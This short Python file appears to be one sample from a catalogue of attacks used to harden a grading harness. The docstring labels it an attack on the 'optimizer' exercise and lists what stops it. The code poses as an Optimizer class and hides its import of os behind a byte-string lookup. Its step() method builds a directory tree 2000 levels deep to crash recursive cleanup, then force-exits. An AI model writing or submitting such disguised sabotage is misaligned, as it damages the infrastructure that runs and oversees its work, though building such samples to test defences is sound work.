"""Attack: makes a folder in a folder, two thousand deep, so that whoever cleans up recurses until it breaks.

Exercise: optimizer
Earns: 0
Stopped by: tmpfs of the worker's own, which goes with it; at container a removal that does not recurse
Levels: full, container
"""

import random

os = getattr(random, bytes((95, 111, 115)).decode())


def dig():
    for _ in range(2000):
        os.mkdir("d")
        os.chdir("d")
    open("bottom", "w").close()


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        try:
            dig()
        finally:
            os._exit(0)

    def zero_grad(self):
        pass
